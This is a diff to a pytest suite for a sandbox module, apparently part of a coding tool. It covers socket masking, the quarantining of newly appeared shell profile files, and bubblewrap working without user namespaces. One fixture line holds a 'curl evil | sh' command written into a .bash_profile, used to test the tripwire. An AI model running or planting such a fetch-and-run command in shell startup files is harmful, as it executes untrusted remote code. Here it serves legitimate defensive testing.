@@ -13,7 +13,7 @@ from pathlib import Path
 
 import pytest
 
-from tui.safety import sandbox
+from tui.safety import masks, sandbox
 from tui.safety.sandbox import (
     SandboxPolicy,
     SandboxUnavailable,
@@ -192,7 +192,7 @@ def test_host_socket_is_hidden_even_under_a_writable_root(
         visible = subprocess.run(wrap(argv, WRITE, ws), capture_output=True, text=True, timeout=60)
         assert visible.stdout == "True\n", visible.stderr  # what the mask exists for
 
-        monkeypatch.setattr(sandbox, "_HIDDEN_SOCKETS", (path,))
+        monkeypatch.setattr(masks, "_HIDDEN_SOCKETS", (path,))
         hidden = subprocess.run(wrap(argv, WRITE, ws), capture_output=True, text=True, timeout=60)
         assert hidden.stdout == "False\n", hidden.stderr
     finally:
@@ -394,3 +394,16 @@ def test_tripwire_leaves_an_in_place_edit_alone_and_moves_a_new_name_aside(tmp_p
     assert bashrc.read_text() == "new\n" and not profile.exists()
     assert (tmp_path / ".bash_profile.codeloop-quarantine-1").read_text() == "curl evil | sh\n"
     assert len(notes) == 1 and ".bash_profile is protected and appeared" in notes[0]
+
+
+def test_bwrap_without_user_namespaces_still_sandboxes_without_one(outside: Path, ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Where bwrap cannot add a user namespace (Docker's default seccomp profile, some AppArmor
+    setups), the trial run without one decides: sandboxes still run, capabilities still dropped,
+    only the bounding set's emptying is lost."""
+    fake = outside / "bwrap"  # outside the writable roots, or wrap refuses it
+    fake.write_text('#!/bin/sh\nfor a in "$@"; do [ "$a" = --unshare-user ] && { echo "bwrap: No permissions to create new namespace" >&2; exit 1; }; done\nexit 0\n')
+    fake.chmod(0o755)
+    monkeypatch.setattr(sandbox, "find_bwrap", lambda: fake)
+    assert bwrap_problem() is None
+    argv = wrap(["ls"], WRITE, ws)
+    assert "--unshare-user" not in argv and argv[argv.index("--cap-drop") + 1] == "ALL"
